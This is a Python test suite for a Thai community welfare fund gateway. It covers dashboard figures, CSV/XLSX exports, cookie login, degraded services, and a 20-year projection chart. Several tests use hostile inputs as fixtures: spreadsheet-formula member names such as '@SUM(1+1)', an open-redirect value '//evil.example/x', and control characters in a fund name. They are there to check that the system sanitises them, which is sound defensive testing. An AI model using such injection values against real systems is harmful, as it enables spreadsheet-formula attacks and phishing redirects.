async def test_a_fund_without_books_has_no_accumulated_fund_rather_than_zero(composed) -> None:
    client, tokens, _ = composed
    f = (await client.get(f"/v1/dashboard/funds/{FUND_B}", headers=tokens.headers())).json()
    assert f["accumulated_satang"] is None and f["holdings"] is None
    assert f["members"]["coverage_pct"] is None and f["members"]["population"] is None


async def test_a_services_refusal_reaches_the_caller_as_the_service_wrote_it(composed) -> None:
    client, tokens, fake = composed
    problem = json.dumps({"type": "urn:sajja:problem:auth.out_of_scope", "title": "ไม่มีสิทธิ์เข้าถึงกองทุนนี้", "status": 403,
                          "detail": "x", "code": "auth.out_of_scope", "request_id": "r"}, ensure_ascii=False).encode()
    fake.refuse["/reports/holdings"] = (403, problem)
    answer = await client.get(f"/v1/dashboard/funds/{FUND_A}", headers=tokens.headers(Role.committee, fund_id=FUND_B))
    assert answer.status_code == 403 and answer.headers["content-type"] == "application/problem+json"
    assert answer.content == problem
    assert (await client.get(f"/v1/dashboard/funds/{FUND_A}")).status_code == 401, "no token: refused by the gateway itself"
    bad_period = await client.get(f"/v1/dashboard/funds/{FUND_A}", params={"from": "2026-05-01", "to": "2026-01-01"},
                                  headers=tokens.headers())
    assert bad_period.status_code == 422 and bad_period.json()["code"] == "dashboard.period_invalid"


async def test_an_unreachable_service_is_a_503_problem(engines) -> None:
    dead = f"http://127.0.0.1:{free_port()}"
    async with gateway_app(engines["gateway"], members_url=dead, ledger_url=dead, benefits_url=dead, grants_url=dead) as (app, client):
        keyring = app.state.keyring
        tokens = Tokens(pem=keyring._current_pem, kid=keyring.current_kid, jwks=keyring.jwks())
        answer = await client.get(f"/v1/dashboard/funds/{FUND_A}", headers=tokens.headers())
        assert answer.status_code == 503 and answer.json()["code"] == "upstream.unavailable"


async def test_rollups_add_up_the_funds_and_are_for_admins_and_network_officers(composed) -> None:
    client, tokens, _ = composed
    national = await client.get("/v1/dashboard/national", params={"from": "2026-01-01", "to": "2026-03-31"}, headers=tokens.headers())
    assert national.status_code == 200, national.text
    n = national.json()
    assert n["funds"] == {"count": 2, "with_books": 1, "founded_year_be_first": 2551, "founded_year_be_last": 2553}
    assert n["accumulated_satang"] == 1_432_828_076, "a fund without books adds nothing, and is not a 0"
    assert n["members"] == {"active": 10_138, "total": 10_142, "population": 17_539, "coverage_pct": 23.5}, \
        "coverage over the funds that have a population"
    assert n["pending_claims"]["claims"] == 3 and n["arrears"]["members"] == 2
    assert [(r["name"].removeprefix("กองทุนสวัสดิการชุมชนตำบล"), r["accumulated_satang"], r["members"], r["coverage_pct"])
            for r in n["table"]] == [("บ้านส้อง", 1_432_828_076, 4_118, 23.5), ("หนองม่วง", None, 6_020, None)]
    officer = tokens.headers(Role.network_officer, network_id=NETWORK)
    mine = (await client.get(f"/v1/dashboard/networks/{NETWORK}", headers=officer)).json()
    assert mine["funds"]["count"] == 1 and mine["table"][0]["fund_id"] == FUND_A
    province = (await client.get("/v1/dashboard/provinces/สระแก้ว", headers=tokens.headers())).json()
    assert province["scope"] == {"kind": "province", "network_id": None, "province": "สระแก้ว"} and province["funds"]["count"] == 1
    assert (await client.get("/v1/dashboard/national", headers=officer)).status_code == 403
    assert (await client.get(f"/v1/dashboard/networks/{uuid.uuid4()}", headers=officer)).status_code == 403
    assert (await client.get("/v1/dashboard/funds-table", headers=tokens.headers(Role.committee, fund_id=FUND_A))).status_code == 403
    table = (await client.get("/v1/dashboard/funds-table", headers=tokens.headers())).json()["rows"]
    assert table[0] == {"no": 1, "fund_id": FUND_A, "name": "กองทุนสวัสดิการชุมชนตำบลบ้านส้อง", "province": "สุราษฎร์ธานี",
                        "founded_year_be": 2553, "accumulated_satang": 1_432_828_076, "accumulated_baht": "14328280.76",
                        "members": 4_118, "population": 17_539, "coverage_pct": 23.5}
    assert table[1]["accumulated_baht"] is None


async def test_downloads_as_csv_and_xlsx(composed) -> None:
    client, tokens, _ = composed
    admin = tokens.headers()
    csv_answer = await client.get("/v1/dashboard/exports/funds.csv", headers=admin)
    assert csv_answer.status_code == 200 and csv_answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in csv_answer.headers["content-disposition"]
    lines = csv_answer.content.decode("utf-8-sig").split("\r\n")
    assert lines[2].startswith("ลำดับ,กองทุน,จังหวัด") and lines[3] == "1,กองทุนสวัสดิการชุมชนตำบลบ้านส้อง,สุราษฎร์ธานี,2553,14328280.76,4118,23.5"
    assert lines[4] == "2,กองทุนสวัสดิการชุมชนตำบลหนองม่วง,สระแก้ว,2551,,6020,"
    roll = await client.get(f"/v1/dashboard/funds/{FUND_A}/exports/members.xlsx", headers=tokens.headers(Role.committee, fund_id=FUND_A))
    assert roll.headers["content-type"] == tables.XLSX_TYPE
    rows = list(load_workbook(io.BytesIO(roll.content)).active.iter_rows(values_only=True))
    assert len(rows) == 3 + 700, "every page of the roll, after two heading lines and the header"
    assert rows[2][:5] == ("เลขทะเบียน", "เลขประจำตัวประชาชน", "คำนำหน้า", "ชื่อ", "นามสกุล") and rows[3][5] == "หญิง"
    income = await client.get(f"/v1/dashboard/funds/{FUND_A}/exports/income.csv", params={"from": "2026-01-01", "to": "2026-03-31"},
                              headers=admin)
    assert income.content.decode("utf-8-sig").split("\r\n")[3:6] == [
        "เงินสัจจะสมาชิก,1312175.00,70.0", "รัฐ (พอช.),1008384.00,30.0", "รวม,2320559.00,100.0"]
    assert (await client.get(f"/v1/dashboard/funds/{FUND_A}/exports/members.pdf", headers=admin)).status_code == 422


@pytest.fixture
async def wired(engines, service_client, tokens) -> AsyncIterator[tuple[httpx.AsyncClient, Tokens]]:
    """The gateway in front of the real members and ledger services, which trust its keys too;
    yields its client and tokens it signs."""
    services = {name: await service_client(name) for name in ("members", "ledger")}
    async with gateway_app(engines["gateway"], **{f"{name}_url": f"http://{name}" for name in
                                                  ("members", "ledger", "benefits", "grants")}) as (app, client):
        keyring = app.state.keyring
        trusted = {"keys": tokens.jwks["keys"] + keyring.jwks()["keys"]}
        for service in services.values():
            service._transport.app.state.verifier = TokenVerifier(issuer=ISSUER, audience=AUDIENCE, jwks=trusted)
        await app.state.forwarder.client.close()
        app.state.forwarder.client = ServicesWire(services)
        yield client, Tokens(pem=keyring._current_pem, kid=keyring.current_kid, jwks=keyring.jwks())


async def test_a_member_registered_as_a_formula_is_text_in_every_export(wired, service_client, tokens) -> None:
    client, signed = wired
    books = await make_books(service_client, tokens, members_count=0)
    registered = await books.fund.register(person(901, title="@SUM(1+1)", first_name=FORMULA, last_name="-", house_no="+1"))
    assert registered.status_code == 201, registered.text
    member_id = registered.json()["id"]
    books.member_ids.append(member_id)
    deposit = books.deposit(amount=10_000)
    assert (await books.post("/deposits", deposit, books.collector_headers)).status_code == 201
    undone = await books.post_confirmed(f"/deposits/{deposit['id']}/reverse", {"id": str(uuid.uuid4()), "reason": "ผิดคน"})
    assert undone.status_code == 200, undone.text
    committee = signed.headers(Role.committee, fund_id=books.id)
    roll = f"/v1/dashboard/funds/{books.id}/exports/members"

    answer = await client.get(f"{roll}.csv", headers=committee)
    assert answer.status_code == 200, answer.text
    row = csv_rows(answer.content)[3]
    assert row[:5] == ["1", row[1], "'@SUM(1+1)", "'" + FORMULA, "'-"] and row[7] == "'+1"
    answer = await client.get(f"{roll}.xlsx", headers=committee)
    assert answer.status_code == 200, answer.text
    row = xlsx_cells(answer.content)[3]
    assert [(c.value, c.data_type) for c in (row[2], row[3], row[4], row[7])] == [
        ("@SUM(1+1)", "s"), (FORMULA, "s"), ("-", "s"), ("+1", "s")]
    assert (row[0].value, row[0].data_type) == (1, "n")

    statement = f"/v1/dashboard/funds/{books.id}/members/{member_id}/exports/statement"
    lines = csv_rows((await client.get(f"{statement}.csv", headers=committee)).content)
    assert [line[3:] for line in lines[4:]] == [["100.00", "100.00"], ["-100.00", "0.00"]], "a negative amount is a number"
    cells = xlsx_cells((await client.get(f"{statement}.xlsx", headers=committee)).content)
    assert [(c.value, c.data_type) for c in cells[5][3:]] == [(-100, "n"), (0, "n")]

    # The web dashboard's downloads are the same files.
    await client.post("/dashboard/login", data={"phone": ADMIN_PHONE, "password": ADMIN_PASSWORD, "next": "/dashboard"})
    page = f"/dashboard/funds/{books.id}/exports/members"
    assert csv_rows((await client.get(f"{page}.csv")).content)[3][3] == "'" + FORMULA
    row = xlsx_cells((await client.get(f"{page}.xlsx")).content)[3]
    assert (row[3].value, row[3].data_type) == (FORMULA, "s")


async def test_a_fund_name_with_control_characters_from_old_data_still_exports(wired, service_client, tokens) -> None:
    client, signed = wired
    members = await service_client("members")
    fund = await make_fund(members, tokens, name="กองทุนสวัสดิการชุมชนตำบลเก่า")
    assert (await fund.register(person(902))).status_code == 201
    old = "กองทุน\x07สวัสดิการ\x1bชุมชน\x0bตำบลเก่า"  # written before input refused it
    await members._transport.app.state.db.bind.execute(sql_text("UPDATE funds SET name = :name WHERE id = :id"),
                                                       {"name": old, "id": fund.id})
    shown = "กองทุน\ufffdสวัสดิการ\ufffdชุมชน\ufffdตำบลเก่า"
    admin = signed.headers()
    funds = {fmt: await client.get(f"/v1/dashboard/exports/funds.{fmt}", headers=admin) for fmt in ("csv", "xlsx")}
    rolls = {fmt: await client.get(f"/v1/dashboard/funds/{fund.id}/exports/members.{fmt}", headers=admin) for fmt in ("csv", "xlsx")}
    assert [a.status_code for a in (*funds.values(), *rolls.values())] == [200] * 4
    assert shown in [row[1] for row in csv_rows(funds["csv"].content)[3:]]
    assert shown in [row[1].value for row in xlsx_cells(funds["xlsx"].content)[3:]]
    assert csv_rows(rolls["csv"].content)[0][0] == xlsx_cells(rolls["xlsx"].content)[0][0].value == f"ทะเบียนสมาชิก {shown}"
    for roll in rolls.values():
        assert not re.search(r"[\x00-\x1f\x7f]", roll.headers["content-disposition"]), "a header cannot carry controls"


# --- The web pages and their login ---------------------------------------------------------------------------


def cookie_flags(response: httpx.Response, name: str) -> str:
    return next(v for k, v in response.headers.multi_items() if k == "set-cookie" and v.startswith(f"{name}="))


async def test_pages_need_a_login_that_keeps_the_tokens_in_strict_httponly_cookies(composed) -> None:
    client, _, _ = composed
    page = f"/dashboard/funds/{FUND_A}"
    away = await client.get(page)
    assert away.status_code == 303 and away.headers["location"] == f"/dashboard/login?next=%2Fdashboard%2Ffunds%2F{FUND_A}"
    form = await client.get(away.headers["location"])
    assert form.status_code == 200 and 'name="password"' in form.text and 'content="width=device-width' in form.text
    wrong = await client.post("/dashboard/login", data={"phone": ADMIN_PHONE, "password": "wrong", "next": page})
    assert wrong.status_code == 401 and "เบอร์โทรหรือรหัสผ่านไม่ถูกต้อง" in wrong.text and "set-cookie" not in wrong.headers
    signed_in = await client.post("/dashboard/login", data={"phone": ADMIN_PHONE, "password": ADMIN_PASSWORD, "next": page})
    assert signed_in.status_code == 200 and f'content="0; url={page}"' in signed_in.text
    for name in ("sajja_access", "sajja_refresh"):
        flags = cookie_flags(signed_in, name).lower()
        assert "httponly" in flags and "samesite=strict" in flags and "path=/dashboard" in flags and "secure" not in flags
    shown = await client.get(page)
    assert shown.status_code == 200 and shown.headers["content-type"].startswith("text/html")
    html = shown.text
    for expected in ("กองทุนสวัสดิการชุมชนตำบลบ้านส้อง", "14,328,280.76", "4,118", "23.5", "<svg", "เงินสัจจะสมาชิก",
                     "ผู้สูงอายุ", "รายงานประจำเดือน (PDF)"):
        assert expected in html, expected
    assert "http://" not in html.split("<main>")[1].replace("http://www.w3.org/2000/svg", ""), "nothing is loaded from elsewhere"
    assert "default-src 'none'" in shown.headers["content-security-policy"]
    roll = await client.get(f"{page}/exports/members.csv")
    assert roll.status_code == 200 and roll.content.decode("utf-8-sig").count("\r\n") == 3 + 700
    national = await client.get("/dashboard/national")
    assert national.status_code == 200 and "ตารางกองทุน" in national.text and "N/A" in national.text
    out = await client.post("/dashboard/logout")
    assert out.status_code == 303 and out.headers["location"] == "/dashboard/login"
    client.cookies.clear()
    assert (await client.get(page)).status_code == 303


async def test_an_expired_access_cookie_is_renewed_and_a_foreign_next_is_ignored(composed) -> None:
    client, _, _ = composed
    https = {"X-Forwarded-Proto": "https"}
    signed_in = await client.post("/dashboard/login", headers=https,
                                  data={"phone": ADMIN_PHONE, "password": ADMIN_PASSWORD, "next": "//evil.example/x"})
    assert 'url=/dashboard"' in signed_in.text
    assert "secure" in cookie_flags(signed_in, "sajja_access").lower(), "Secure over HTTPS"
    refresh = signed_in.cookies["sajja_refresh"]
    client.cookies.clear()
    renewed = await client.get(f"/dashboard/funds/{FUND_A}", headers={"Cookie": f"sajja_access=not-a-token; sajja_refresh={refresh}"})
    assert renewed.status_code == 200 and "14,328,280.76" in renewed.text
    assert cookie_flags(renewed, "sajja_access") and cookie_flags(renewed, "sajja_refresh") != f"sajja_refresh={refresh}"
    client.cookies.clear()
    spent = await client.get(f"/dashboard/funds/{FUND_A}", headers={"Cookie": "sajja_access=not-a-token; sajja_refresh=not-either"})
    assert spent.status_code == 303 and spent.headers["location"].startswith("/dashboard/login")


async def test_a_page_the_caller_may_not_see_says_so_in_thai(composed) -> None:
    client, tokens, _ = composed
    signed_in = await client.post("/dashboard/login", data={"phone": ADMIN_PHONE, "password": ADMIN_PASSWORD})
    assert signed_in.status_code == 200
    made = await client.post("/v1/auth/users", headers=tokens.headers(), json={
        "phone": "0870000001", "password": "committee-pass-1", "display_name": "กรรมการ", "role": "committee", "fund_id": FUND_A})
    assert made.status_code == 201, made.text
    client.cookies.clear()
    await client.post("/dashboard/login", data={"phone": "0870000001", "password": "committee-pass-1"})
    home = await client.get("/dashboard")
    assert home.status_code == 303 and home.headers["location"] == f"/dashboard/funds/{FUND_A}"
    national = await client.get("/dashboard/national")
    assert national.status_code == 403 and "ไม่มีสิทธิ์" in national.text and "<!doctype html>" in national.text


# --- The real thing, in headless Chromium ------------------------------------------------------------------------


def chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.e2e
@pytest.mark.skipif(chromium() is None, reason="Debian's chromium is not installed (make test installs it as root on Debian)")
def test_the_web_dashboard_in_headless_chromium_on_a_phone_screen(tmp_path: Path) -> None:
    """Headless Chromium on a phone-sized window (as root, so no sandbox; nothing fetched but our
    own pages), driven over its DevTools protocol by Playwright: a committee member opens the
    dashboard, is sent to the login form, types phone and password, and lands on the fund's page.
    Each step waits for what a person would see, not for a fixed time."""
    from playwright.sync_api import sync_playwright

    from tests.support.system import ADMIN_PASSWORD as E2E_PASSWORD
    from tests.support.system import ADMIN_PHONE as E2E_PHONE
    from tests.support.system import running_system
    from tools.demo import Demo

    with running_system(tmp_path / "home") as system:
        demo = Demo(url=system.url, phone=E2E_PHONE, password=E2E_PASSWORD, scale=0.01, user_password="demo-password-1",
                    say=lambda _: None)
        loaded = demo.run()
        ban_song = next(f for f in loaded.funds if f.tambon == "บ้านส้อง")
        committee = loaded.users["committee_a"]
        page_path = f"/dashboard/funds/{ban_song.id}"
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=chromium(), headless=True, timeout=60_000,
                args=["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
                      "--disable-component-update", "--disable-sync"])
            try:
                context = browser.new_context(viewport={"width": 390, "height": 844}, device_scale_factor=1,
                                              is_mobile=True, has_touch=True, locale="th-TH")
                context.set_default_timeout(30_000)
                page = context.new_page()
                page.goto(system.url + page_path)
                # Not logged in yet: the dashboard sends the browser to its login form, keeping where to go next.
                page.wait_for_url("**/dashboard/login?next=*")
                page.fill("#phone", committee.phone)
                page.fill("#password", committee.password)
                page.click("button[type=submit]")
                page.wait_for_url("**" + page_path)
                page.wait_for_selector("#accumulated")
                html = page.content()
                for expected in ("กองทุนสวัสดิการชุมชนตำบลบ้านส้อง", 'id="accumulated">14,328,280.76', f'id="members">{ban_song.members}',
                                 'id="founded">พ.ศ. 2553', "รายรับแยกตามแหล่งที่มา", "เงินสัจจะสมาชิก", "<svg", "สวัสดิการที่จ่ายแยกตามประเภท",
                                 "ผู้สูงอายุ", 'id="pending">3'):
                    assert expected in html, f"{expected!r} not on the page:\n{html[:3000]}"
                # Ban Song's 20-year projection, from the benefits service (issue 28 point 4).
                assert "ประมาณการความยั่งยืน 20 ปี" in html and '<polygon class="band"' in html
                assert 'id="projection-unavailable"' not in html
                # Fits a phone: nothing wider than the screen, so no sideways scrolling.
                assert page.evaluate("document.documentElement.scrollWidth") <= 390
                shot = tmp_path / "dashboard.png"
                page.screenshot(path=str(shot), full_page=False)
            finally:
                browser.close()
        assert shot.exists() and shot.stat().st_size > 20_000, "a screenshot with something on it"
        assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
        RESULTS.mkdir(exist_ok=True)
        shutil.copy(shot, RESULTS / "dashboard.png")


async def test_a_view_of_many_funds_asks_each_service_once_and_says_what_a_down_service_leaves_out(composed) -> None:
    client, tokens, fake = composed
    fake.seen.clear()
    answer = await client.get("/v1/dashboard/national", headers=tokens.headers())
    assert answer.status_code == 200, answer.text
    asked = [path for path, _ in fake.seen]
    assert sorted(asked) == sorted(["/v1/members/funds-overview", "/v1/ledger/aggregates", "/v1/benefits/aggregates",
                                    "/v1/grants/aggregates"]), "one call per service, whatever the number of funds"
    assert answer.json()["missing"] == [] and answer.json()["unavailable"] == []
    fake.refuse["/v1/benefits/aggregates"] = (503, b'{"code": "upstream.unavailable"}')
    partial = await client.get("/v1/dashboard/national", headers=tokens.headers())
    assert partial.status_code == 200, "one service down does not fail the view"
    p = partial.json()
    assert p["missing"] == ["benefits_paid", "pending_claims"] and p["benefits_paid"] is None and p["pending_claims"] is None
    assert p["unavailable"] == [{"service": "benefits", "reason": "failed", "figures": ["benefits_paid", "pending_claims"]}]
    assert p["accumulated_satang"] == 1_432_828_076 and p["grants"]["awarded_satang"] == 5_500_000, "the rest is all there"
    fake.refuse.clear()
    fake.refuse["/v1/ledger/aggregates"] = (500, b'{"code": "internal_error"}')
    table = (await client.get("/v1/dashboard/funds-table", headers=tokens.headers())).json()
    assert table["missing"] == ["accumulated_satang"] and [r["accumulated_satang"] for r in table["rows"]] == [None, None]
    assert [r["members"] for r in table["rows"]] == [4_118, 6_020]
    lines = (await client.get("/v1/dashboard/exports/funds.csv", headers=tokens.headers())).content.decode("utf-8-sig").split("\r\n")
    assert any("ไม่มีข้อมูลเงินกองทุนสะสม" in line for line in lines[:4]), "the download says which figure is missing"
    province = (await client.get("/v1/dashboard/provinces/สระแก้ว", headers=tokens.headers())).json()
    assert province["missing"] == ["accumulated_satang", "income_by_source", "deposits_by_month", "arrears"]
    assert province["members"]["active"] == 6_020


async def test_a_slow_service_is_left_out_after_the_deadline(composed, monkeypatch) -> None:
    client, tokens, fake = composed
    monkeypatch.setattr("gateway.dashboard.figures.DEADLINE_SECONDS", 0.01)
    answer = await client.get("/v1/dashboard/national", headers=tokens.headers())
    assert answer.status_code == 200, answer.text
    unavailable = answer.json()["unavailable"]
    assert {u["service"] for u in unavailable} == {"members", "ledger", "benefits", "grants"}
    assert {u["reason"] for u in unavailable} == {"timeout"} and answer.json()["table"] is None


# --- The 20-year sustainability projection on the fund's page (issue 28 point 4) ------------------------------


def test_the_projection_chart_is_an_svg_band_with_the_expected_path_and_the_floor() -> None:
    p = canned_projection()
    svg = str(charts.band(p["path"], "reserve_satang", floor=p["reserve_floor_satang"], title="เงินสำรอง <20 ปี>"))
    assert svg.startswith("<svg") and "&lt;20 ปี&gt;" in svg
    band = re.search(r'<polygon class="band" points="([^"]+)"', svg)
    assert band and len(band.group(1).split()) == 2 * 20, "the 95th percentile forwards, the 5th back"
    expected = re.search(r'<polyline class="expected" points="([^"]+)"', svg)
    assert expected and len(expected.group(1).split()) == 20
    floor = re.search(r'<line class="floor" x1="[\d.]+" y1="([\d.]+)" x2="[\d.]+" y2="([\d.]+)"', svg)
    assert floor and floor.group(1) == floor.group(2), "the floor is a level line"
    # Higher money is higher on the chart: the floor (500,000 baht) lies under the whole expected path.
    assert all(float(point.split(",")[1]) < float(floor.group(1)) for point in expected.group(1).split())
    for year in ("2570", "2589"):
        assert f">{year}</text>" in svg, "years in the Buddhist Era"
    members = str(charts.band(p["path"], "members", money=False, title="สมาชิก"))
    assert 'class="band"' in members and 'class="floor"' not in members and ">1,000</text>" in members
    assert "ไม่มีข้อมูล" in str(charts.band([], "members", title="สมาชิก"))


def test_the_first_year_under_the_floor_is_said_in_words_in_thai_and_english() -> None:
    from shared import projection_view as view

    both = canned_projection(first_under=2038, first_under_p5=2033)
    assert view.under_floor_words(both) == (
        "ตามค่าคาดหมาย เงินสำรองของกองทุนจะต่ำกว่าเงินสำรองขั้นต่ำตั้งแต่ปี พ.ศ. 2581"
        " ในกรณีที่ไม่ดี (เปอร์เซ็นไทล์ที่ 5) อาจต่ำกว่าตั้งแต่ปี พ.ศ. 2576")
    assert view.under_floor_words(both, "en") == ("On the expected path the reserve falls under the floor in 2038. "
                                                  "In the unlucky case (5th percentile) it falls under it in 2033.")
    never = canned_projection(first_under=None, first_under_p5=None)
    assert view.under_floor_words(never) == ("ตามค่าคาดหมาย เงินสำรองของกองทุนไม่ต่ำกว่าเงินสำรองขั้นต่ำตลอด 20 ปี"
                                             " และแม้ในกรณีที่ไม่ดี (เปอร์เซ็นไทล์ที่ 5) ก็ไม่ต่ำกว่า")
    assert "stays above the floor for all 20 years" in view.under_floor_words(never, "en")
    only_unlucky = canned_projection(first_under=None, first_under_p5=2040)
    assert "ไม่ต่ำกว่าเงินสำรองขั้นต่ำตลอด 20 ปี" in view.under_floor_words(only_unlucky)
    assert "พ.ศ. 2583" in view.under_floor_words(only_unlucky)
    assert view.mortality_words(both) == "ฐานอัตราการเสียชีวิต: ตารางมรณะของประเทศไทย (ตารางชีพประเทศไทย พ.ศ. 2560 (TMO2017))"
    own = {**both, "mortality": {"basis": "fund_own", "source": "members 2010-2026", "note": ""}}
    assert view.mortality_words(own, "en") == "Mortality basis: The fund's own members' deaths (members 2010-2026)"
    assert [r["year"] for r in view.every_fifth_year(both["path"])] == [2031, 2036, 2041, 2046]
    assert view.usable(both) is both
    broken = canned_projection()
    del broken["path"][3]["reserve_satang"]["p95"]
    assert view.usable(broken) is None and view.usable({"path": []}) is None and view.usable(None) is None


async def signed_in_admin(client: httpx.AsyncClient) -> None:
    answer = await client.post("/dashboard/login", data={"phone": ADMIN_PHONE, "password": ADMIN_PASSWORD, "next": "/dashboard"})
    assert answer.status_code == 200


async def test_the_funds_page_shows_the_projection_asked_with_the_callers_token(composed) -> None:
    client, _, fake = composed
    await signed_in_admin(client)
    fake.seen.clear()
    page = await client.get(f"/dashboard/funds/{FUND_A}")
    assert page.status_code == 200, page.text
    section = page.text.split('id="projection"')[1].split("</section>")[0]
    for expected in ("ประมาณการความยั่งยืน 20 ปี", '<polygon class="band"', '<line class="floor"', '<polyline class="expected"',
                     "ตั้งแต่ปี พ.ศ. 2581", "พ.ศ. 2576", "ตารางมรณะของประเทศไทย", "TMO2017", "7 ธันวาคม 2569",
                     "ไม่มีวันเกิดในทะเบียน 12 คน", "10,000,000.00", "500,000.00", ">2589<"):
        assert expected in section, expected
    assert section.count("<svg") == 2, "the reserve and the members"
    assert 'id="projection-unavailable"' not in page.text
    asked = [(path, token) for path, token in fake.seen if path.endswith("/projection")]
    tokens_used = {token for _, token in fake.seen}
    assert [path for path, _ in asked] == [f"/v1/benefits/funds/{FUND_A}/projection"]
    assert len(tokens_used) == 1 and asked[0][1] in tokens_used, "with the caller's own token, as every figure"
    assert fake.projections[-1] == {"years": "20"}, "no what-if unless asked"

    # The what-ifs of the page's query go to the benefits service as they are; others are not passed.
    assert 'name="stop_co_funding" value="codi"' in section and "หยุดเงินสมทบจากรัฐ (พอช.)" in section, "one box per source"
    assert "death, elderly" in section, "the fund's benefit codes, for the benefit what-if"
    fake.query_strings.clear()
    what_if = await client.get(f"/dashboard/funds/{FUND_A}", params=[
        ("contribution_per_day_satang", "200"), ("new_members_per_year", "30"), ("stop_co_funding", "codi"),
        ("stop_co_funding", "local_government"), ("benefit", "death:2500000"), ("seed", "1"), ("runs", "9"),
        ("from", "2026-01-01"), ("to", "2026-03-31")])
    assert what_if.status_code == 200
    asked = [q for q in fake.query_strings if "years=20" in q]  # (as aiohttp decodes it)
    assert asked == ["years=20&contribution_per_day_satang=200&benefit=death:2500000&new_members_per_year=30"
                     "&stop_co_funding=codi&stop_co_funding=local_government"], "as asked, and nothing else"
    assert "ตามสมมติฐานที่เลือก" in what_if.text and 'value="200"' in what_if.text and "กลับไปใช้ค่าตั้งต้น" in what_if.text
    assert what_if.text.count("checked>") == 2


@pytest.mark.parametrize("failure", ["503", "422", "dropped", "slow", "not a projection"])
async def test_the_funds_page_renders_when_the_projection_cannot_be_had(composed, monkeypatch, failure: str) -> None:
    client, _, fake = composed
    await signed_in_admin(client)
    if failure == "503":
        fake.refuse["/projection"] = (503, b'{"code": "upstream.unavailable", "title": "x", "detail": "down"}')
    elif failure == "422":
        fake.refuse["/projection"] = (422, json.dumps({"code": "validation_error", "title": "ข้อมูลไม่ถูกต้อง",
                                                       "detail": "new_members_per_year ต้องไม่ติดลบ"}, ensure_ascii=False).encode())
    elif failure == "dropped":
        fake.drop.add("/projection")
    elif failure == "slow":
        monkeypatch.setattr("gateway.dashboard.figures.PROJECTION_SECONDS", 0.001)
    else:
        monkeypatch.setattr(fake, "answer", lambda path, query, real=fake.answer: {"path": "nothing"} if path.endswith(
            "/projection") else real(path, query))
    page = await client.get(f"/dashboard/funds/{FUND_A}")
    assert page.status_code == 200, page.text
    assert 'id="projection-unavailable"' in page.text
    assert "14,328,280.76" in page.text and "ผู้สูงอายุ" in page.text, "the rest of the page is all there"
    assert '<polygon class="band"' not in page.text
    if failure == "422":
        assert "แสดงประมาณการไม่ได้: new_members_per_year ต้องไม่ติดลบ" in page.text, "a refused what-if says why"
    else:
        assert "ขณะนี้แสดงประมาณการไม่ได้ (ระบบสวัสดิการไม่ตอบหรือขัดข้อง)" in page.text
        assert "down" not in page.text.split('id="projection"')[1].split("</section>")[0], "a 5xx's detail is not shown"


async def test_a_real_funds_page_shows_the_benefits_services_own_projection(engines, service_client, tokens) -> None:
    """The gateway in front of the real members, ledger, benefits and grants apps: the fund's page
    shows what the engine answers, and a what-if the engine refuses says why."""
    from shared import projection_view as view
    from tests.support.apps import gateway_before

    services = {name: await service_client(name) for name in ("members", "ledger", "benefits", "grants")}
    books = await make_books(service_client, tokens, members_count=3)
    for member in range(3):
        assert (await books.post("/deposits", books.deposit(member=member, amount=36_500), books.collector_headers)).status_code == 201
    async with gateway_before(engines["gateway"], services, tokens) as (_, client, signed):
        engine = await client.get(f"/v1/benefits/funds/{books.id}/projection", headers=signed.headers())
        assert engine.status_code == 200, engine.text
        p = engine.json()
        await signed_in_admin(client)
        page = await client.get(f"/dashboard/funds/{books.id}")
        assert page.status_code == 200, page.text
        section = page.text.split('id="projection"')[1].split("</section>")[0]
        for expected in ('<polygon class="band"', '<line class="floor"', view.under_floor_words(p),
                         f">{p['path'][-1]['year'] + thai.BE_OFFSET}<", "สมาชิกตั้งต้น 3 คน"):
            assert expected in section, expected
        assert view.mortality_words(p).replace("'", "&#39;") in section
        refused = await client.get(f"/dashboard/funds/{books.id}", params={"benefit": "no_such_benefit:100"})
        assert refused.status_code == 200
        assert "แสดงประมาณการไม่ได้: กองทุนนี้ไม่มีสวัสดิการรหัส no_such_benefit" in refused.text


async def test_with_benefits_down_the_funds_page_renders_without_its_figures_and_projection(engines) -> None:
    fake = FakeServices()
    dead = f"http://127.0.0.1:{free_port()}"
    async with serving(fake.app) as url, gateway_app(
        engines["gateway"], members_url=url, ledger_url=url, benefits_url=dead, grants_url=url
    ) as (app, client):
        await signed_in_admin(client)
        page = await client.get(f"/dashboard/funds/{FUND_A}")
        assert page.status_code == 200, page.text
        assert 'id="missing"' in page.text and "ระบบสวัสดิการติดต่อไม่ได้" in page.text
        assert 'id="projection-unavailable"' in page.text and "ขณะนี้แสดงประมาณการไม่ได้" in page.text
        assert "14,328,280.76" in page.text and "รัฐ (พอช.)" in page.text, "the ledger's and members' figures are there"
        assert 'id="benefits">-<' in page.text, "benefits paid unknown: a blank, never 0"
        keyring = app.state.keyring
        signed = Tokens(pem=keyring._current_pem, kid=keyring.current_kid, jwks=keyring.jwks())
        api = await client.get(f"/v1/dashboard/funds/{FUND_A}", headers=signed.headers())
        assert api.status_code == 503, "the JSON dashboard is as it was: a service down is a 503 problem"
